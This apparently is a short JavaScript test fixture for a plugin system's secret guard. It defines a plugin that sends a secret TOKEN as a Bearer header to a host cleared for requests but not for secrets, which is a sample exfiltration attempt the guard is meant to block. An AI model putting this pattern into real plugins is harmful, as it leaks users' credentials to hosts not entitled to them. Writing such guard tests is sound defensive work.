// A secret is sent to a host that requests may go to, and secrets may not.
// guard: secrets are for hosts
// harm: loot
// control: any host
// says: may not send the secret TOKEN to
module.exports = {
  metadata: { name: 'other-host', cache: 0, requiredSecrets: ['TOKEN'], match: { contextType: 'github', context: { 'page.attack': { equals: 'other-host' } } } },
  async run(context, secrets) {
    await fetch(`${context.page.granted}/`, { headers: { Authorization: `Bearer ${secrets.TOKEN}` } });
    return { type: 'text', content: 'sent' };
  },
};
